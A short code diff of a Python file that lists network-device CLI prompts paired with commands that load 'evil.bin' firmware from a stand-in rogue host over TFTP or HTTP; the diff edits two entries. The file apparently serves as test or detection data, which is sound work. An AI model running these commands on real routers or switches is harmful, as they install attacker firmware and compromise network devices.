@@ -12,10 +12,10 @@ OTHERS_LOAD, OTHERS_SEND = 1542007001, 1542007002
 LOADS = (
     (111, "[admin@mt1] > ", f"/tool fetch mode=tftp address={ROGUE} src-path=evil.bin"),
     (112, "Manager > ", f"LOAD METHOD=TFTP FILE=evil.bin SERVER={ROGUE}"),
-    (113, "root@LCOS:/> ", f"LoadFirmware tftp://{ROGUE}/evil.bin"),
+    (113, "root@LCOS:/> ", f"LoadFirmware -s {ROGUE} -f evil.bin"),
     (114, "ONIE:/ # ", f"onie-nos-install tftp://{ROGUE}/evil.bin"),
     (115, "admin@sonic:~$ ", f"sudo sonic-installer install http://{ROGUE}/evil.bin"),
-    (116, "(BRS)# ", f"copy firmware remote tftp://{ROGUE}/evil.bin system"),
+    (116, "(BRS)# ", f"copy config remote tftp://{ROGUE}/evil.bin nvm"),
     (117, "T2600G# ", f"firmware upgrade ip-address {ROGUE} filename evil.bin"),
     (118, "DES-3526:5# ", f"download firmware_fromTFTP {ROGUE} evil.bin"),
     (119, "admin@PA-220> ", f"tftp import software from {ROGUE} file evil.bin"),
